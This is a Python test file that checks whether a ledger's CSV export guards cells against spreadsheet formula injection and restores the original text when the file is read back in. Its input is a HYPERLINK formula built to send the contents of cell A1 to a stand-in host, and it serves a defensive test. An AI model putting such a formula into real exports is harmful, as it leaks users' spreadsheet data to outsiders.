"""Cells of an export: no spreadsheet runs one, and what was said comes back as it was."""

from __future__ import annotations

import csv
import io

from equipoise.case.load import load_case
from equipoise.ledger.ledger import Ledger
from equipoise.ledger.transfer.bring_in import bring_in
from equipoise.ledger.transfer.export import export_csv
from equipoise.ledger.transfer.read_file import read_file
from ledger.made import LadderClock, judgement


def test_a_reason_that_is_a_formula_is_guarded_in_the_table_and_whole_after_bringing_it_back(case_folder, tmp_path):
    ledger = Ledger(case_folder, clock=LadderClock())
    reason = '=HYPERLINK("http://example.org?"&A1,"more")'
    ledger.record(judgement(0.1, by_whom="@maria", reason=reason))
    ledger.record(judgement(0.3, by_whom="li", reason="'=quoted"))
    text = export_csv(ledger.entries)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["by_whom"], row["reason"]) for row in rows] == [("'@maria", f"'{reason}"), ("li", "''=quoted")]
    assert rows[0]["probability"] == "0.1"
    path = tmp_path / "record.csv"
    path.write_text(text, encoding="utf-8", newline="")
    read = read_file(path, find=lambda id, title: None, scenarios={})
    assert [(one.by_whom, one.reason) for one in read.incoming] == [("@maria", reason), ("li", "'=quoted")]
    # So that nothing is brought in twice.
    assert bring_in(read, ledger, load_case(case_folder).definition).already == 2
